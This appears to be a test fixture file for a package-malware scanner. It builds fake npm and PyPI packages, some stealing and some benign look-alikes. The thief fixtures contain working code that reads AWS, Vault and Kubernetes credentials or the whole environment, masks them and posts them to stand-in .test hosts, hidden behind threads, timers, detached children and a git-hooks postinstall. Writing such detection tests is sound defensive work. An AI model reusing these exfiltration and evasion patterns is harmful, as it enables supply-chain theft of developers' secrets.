"""Thieves that act when whoever loaded them has gone on, or where nobody looks; and honest neighbours that look like
them."""

from __future__ import annotations

from pathlib import Path
from textwrap import dedent, indent

from tests.packages import build
from tests.packages.fixture import Expectation, Fixture
from tests.packages.more_thieves import CLEAN, npm, pypi, theft
from tests.packages.npm_thieves import PERSISTED, TAINT
from tests.packages.settled import javascript, module, python, shell

_POST = """
text = open(os.path.expanduser("~/{file}"), "rb").read()
mixed = bytes(byte ^ (place % 251) for place, byte in enumerate(text))
try:
    urllib.request.urlopen("https://in.{host}.test/p", data=mixed, timeout=5).read()
except OSError:
    pass
"""

_THREAD = python(
    "def work():\n"
    + indent(_POST.format(file=".aws/credentials", host="side-rows"), "    ")
    + "threading.Thread(target=work, daemon=True).start()\n",
    "threading urllib.request",
)

_GUI = python(_POST.format(file=".vault-token", host="pane-rows"), "urllib.request", call=False) + dedent(
    """

    def start():
        if settled():
            main()
    """
)

_UNREF = javascript(
    """
    setTimeout(async () => {
      const text = fs.readFileSync(`${os.homedir()}/.aws/credentials`);
      const body = text.map((byte, place) => byte ^ (place % 251));
      await fetch("https://in.later-rows.test/p", { method: "POST", body });
    }, 2500).unref();
    """
)

_BUNDLED = module(
    """
    const text = fs.readFileSync(`${os.homedir()}/.kube/config`);
    const body = text.map((byte, place) => byte ^ (place % 251));
    await fetch("https://in.module-rows.test/p", { method: "POST", body });
    """
)

_PAGE = javascript(
    """
    const text = fs.readFileSync(`${os.homedir()}/.kube/config`);
    const body = text.map((byte, place) => byte ^ (place % 251));
    await fetch("https://in.page-rows.test/p", { method: "POST", body });
    """
).replace("if (settled()) main", 'if (settled()) document.createElement("a");\nif (settled()) main')

_PEER = 'if (settled()) require("grid-kit");\n'


def _kit(folder: Path) -> tuple[Path, ...]:
    """The peer, which npm installs for nobody by itself."""
    return (build.npm(folder, "grid-kit", {"index.js": "module.exports = (rows) => rows.length;\n"}),)


_BEHIND = javascript(
    """
    const text = fs.readFileSync(`${os.homedir()}/.aws/credentials`);
    const body = text.map((byte, place) => byte ^ (place % 251));
    await fetch("https://in.peer-rows.test/p", { method: "POST", body });
    """
).replace("if (settled()) main", f"{_PEER}if (settled()) main")

_WANTS = {
    "peerDependencies": {"grid-kit": "^1.0.0"}, "peerDependenciesMeta": {"grid-kit": {"optional": True}},
}  # fmt: skip

_WIDGET = dedent(
    """\
    (function (global, factory) {
      if (typeof exports === "object" && typeof module !== "undefined") module.exports = factory();
      else global.Widget = factory();
    })(this, function () {
      const chrome = /Chrome\\/(\\d+)/.exec(window.navigator.userAgent);
      const root = document.querySelector("[data-widget]") || document.body;
      root.style.setProperty("--widget", chrome ? chrome[1] : "0");
      for (const old of document.querySelectorAll(".widget")) old.remove();
      for (let at = root; at; at = at.parentNode) at.hidden = false;
      class Widget extends HTMLElement {
        connectedCallback() { this.textContent = localStorage.getItem("widget") || location.pathname; }
      }
      customElements.define("a-widget", Widget);
      new MutationObserver(() => {}).observe(root, { childList: true });
      window.addEventListener("resize", () => root.getBoundingClientRect().width);
      return Widget;
    });
    """
)

_ENVIRONMENT = javascript(
    """
    const text = child_process.execFileSync("printenv");
    const body = text.map((byte, place) => byte ^ (place % 251));
    await fetch("https://in.all-rows.test/p", { method: "POST", body });
    """,
    "child_process",
)

_WATCHES = javascript(
    """
    const options = { detached: true, stdio: "ignore" };
    child_process.spawn(process.execPath, [`${__dirname}/watch.js`], options).unref();
    """,
    "child_process",
)

_LATER = javascript(
    """
    await new Promise((resolve) => setTimeout(resolve, 12500));
    const text = fs.readFileSync(`${os.homedir()}/.aws/credentials`);
    const body = text.map((byte, place) => byte ^ (place % 251));
    await fetch("https://in.watch-rows.test/p", { method: "POST", body });
    """
)

_GIT = shell('git config --global core.hooksPath "$HOME/.hooks"')

_UPDATES = dedent(
    """\
    #!/usr/bin/env node
    const { spawn } = require("node:child_process");
    spawn(process.execPath, [`${__dirname}/updates.js`], { detached: true, stdio: "ignore" }).unref();
    console.log("usage: notice-rows FILE");
    """
)

_LOOKS = dedent(
    """\
    const fs = require("node:fs");
    const os = require("node:os");
    const registry = process.env.npm_config_registry;
    setTimeout(async () => {
      const answer = registry && (await fetch(new URL("notice-rows", registry)).catch(() => undefined));
      const folder = `${os.homedir()}/.config/configstore`;
      fs.mkdirSync(folder, { recursive: true });
      const text = JSON.stringify({ found: Boolean(answer && answer.ok) });
      fs.writeFileSync(`${folder}/update-notifier-notice-rows.json`, text);
    }, 700);
    """
)

_KEEPS = dedent(
    """\
    import os
    import shelve
    import sqlite3

    FOLDER = os.path.expanduser("~/.local/share/kept-rows")


    def main():
        os.makedirs(FOLDER, exist_ok=True)
        with sqlite3.connect(os.path.join(FOLDER, "rows.db")) as rows:
            rows.execute("pragma journal_mode = wal")
            rows.execute("create table if not exists rows (name text)")
        with shelve.open(os.path.join(FOLDER, "state")) as state:
            state["runs"] = 1
        print("usage: kept-rows")
    """
)

_SETTLES = dedent(
    """\
    import json
    import os

    _FOLDER = os.path.expanduser("~/.config_rows")
    os.makedirs(_FOLDER, exist_ok=True)
    with open(os.path.join(_FOLDER, "settings.json"), "w") as settings:
        json.dump({"colour": True}, settings)
    """
)

THIEVES: list[Fixture] = [
    pypi(
        "pypi-thread", "side-rows", "a thread that an import starts and nobody waits for",
        {"side_rows/__init__.py": _THREAD}, theft("side-rows", "aws", "in.side-rows.test", TAINT, "import"),
    ),
    pypi(
        "pypi-gui", "pane-rows", "its graphical program", {"pane_rows/__init__.py": "", "pane_rows/pane.py": _GUI},
        theft("pane-rows", "vault", "in.pane-rows.test", TAINT, "run"),
        scripts={"pane-rows": "pane_rows.pane:start"}, group="gui_scripts",
    ),
    npm(
        "npm-unref", "later-rows", "a timer that lets the process end before it fires", {"index.js": _UNREF},
        theft("later-rows", "aws", "in.later-rows.test", TAINT, "import"),
    ),
    npm(
        "npm-module-field", "module-rows", "the file that bundlers load, and Node does not",
        {"index.js": "module.exports = 1;\n", "esm/index.mjs": _BUNDLED},
        theft("module-rows", "kubernetes", "in.module-rows.test", TAINT, "import"), module="esm/index.mjs",
    ),
    npm(
        "npm-page", "page-rows", "its main file loads in a page only", {"index.js": _PAGE},
        theft("page-rows", "kubernetes", "in.page-rows.test", TAINT, "import"),
    ),
    npm(
        "npm-peer", "peer-rows", "its main file loads only with an optional peer", {"index.js": _BEHIND},
        theft("peer-rows", "aws", "in.peer-rows.test", TAINT, "import"), others=_kit, **_WANTS,
    ),
    npm(
        "npm-printenv", "all-rows", "the whole environment, masked: no file is read", {"setup.js": _ENVIRONMENT},
        Expectation(rules=TAINT, ways_out=("in.all-rows.test",), package="all-rows", phase="install"),
    ),
    npm(
        "npm-waits", "watch-rows", "a child that waits until nobody should look any more",
        {"setup.js": _WATCHES, "watch.js": _LATER},
        theft("watch-rows", "aws", "in.watch-rows.test", TAINT, "linger"),
    ),
    npm(
        "npm-git-hooks", "hooked-rows", "git is told to run its hooks in all repositories",
        {"hook.sh": _GIT}, Expectation(rules=PERSISTED, package="hooked-rows", phase="install"),
        scripts={"postinstall": "sh hook.sh"},
    ),
]  # fmt: skip

NEIGHBOURS: list[Fixture] = [
    npm(
        "npm-update-notice", "notice-rows", "its command leaves a child that looks for a newer version, and ends",
        {"cli.js": _UPDATES, "updates.js": _LOOKS}, CLEAN, kind="neighbour", bin={"notice-rows": "cli.js"},
    ),
    npm(
        "npm-widget", "widget-rows", "written for browsers: it loads in a page only", {"index.js": _WIDGET}, CLEAN,
        kind="neighbour",
    ),
    npm(
        "npm-wants-peer", "wants-rows", "an adapter whose framework is an optional peer",
        {"index.js": 'module.exports = require("grid-kit")([]);\n'}, CLEAN, kind="neighbour", others=_kit, **_WANTS,
    ),
    pypi(
        "pypi-database", "kept-rows", "its command keeps databases in its own folder",
        {"kept_rows/__init__.py": _KEEPS}, CLEAN, kind="neighbour", scripts={"kept-rows": "kept_rows:main"},
    ),
    pypi(
        "pypi-settings", "config-rows", "a module that writes its settings when it is first loaded",
        {"config_rows/__init__.py": _SETTLES}, CLEAN, kind="neighbour",
    ),
]  # fmt: skip
